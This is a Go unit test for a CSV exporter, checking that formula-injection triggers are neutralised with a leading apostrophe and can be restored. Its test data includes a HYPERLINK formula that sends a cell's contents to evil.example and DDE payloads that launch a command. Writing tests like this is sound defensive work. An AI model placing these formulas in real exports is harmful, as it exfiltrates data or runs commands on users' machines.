package csvexport

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestFormulaCellsAreInert: each trigger of OWASP's list, read back by a
// CSV reader as a spreadsheet would, starts with the apostrophe that
// makes it text; plain numbers, negative ones included, stay numbers.
func TestFormulaCellsAreInert(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")`: `'=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")`,
		"+33 6 12 34 56 78":           `'+33 6 12 34 56 78`,
		"-2+3+cmd|' /C calc'!A0":      `'-2+3+cmd|' /C calc'!A0`,
		"@SUM(1+1)*cmd|' /C calc'!A0": `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1":                      "'\t=1+1",
		"\r=1+1":                      "'\r=1+1",
		"Élodie Lefèvre":              "Élodie Lefèvre",
		"-3":                          "-3",
		"-0,5":                        "-0,5",
		"12,5 %":                      "12,5 %",
		"":                            "",
	}
	var in [][]string
	for c := range cells {
		in = append(in, []string{"x", c})
	}
	out := Encode(in)
	if !bytes.HasPrefix(out, []byte("\xef\xbb\xbf")) {
		t.Fatal("BOM absent")
	}
	r := csv.NewReader(bytes.NewReader(out[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil || len(recs) != len(in) {
		t.Fatalf("relecture : %v (%d lignes)", err, len(recs))
	}
	for i, rec := range recs {
		orig := in[i][1]
		if Neutralise(orig) != cells[orig] {
			t.Errorf("Neutralise(%q) = %q, attendu %q", orig, Neutralise(orig), cells[orig])
		}
		if orig[:min(1, len(orig))] == "\r" {
			continue // encoding/csv drops a carriage return on reading
		}
		if rec[1] != cells[orig] {
			t.Errorf("%q écrit %q, attendu %q", orig, rec[1], cells[orig])
		}
		if Restore(rec[1]) != orig {
			t.Errorf("%q relu %q", orig, Restore(rec[1]))
		}
	}
	// With CRLF line ends, encoding/csv drops a lone carriage return: the
	// cell still starts with the apostrophe.
	if !bytes.Contains(out, []byte("\"'=1+1\"")) {
		t.Error("la cellule commençant par un retour chariot n'est pas neutralisée")
	}
	if Restore("'Aujourd'hui") != "'Aujourd'hui" {
		t.Error("une apostrophe ordinaire est retirée")
	}
}
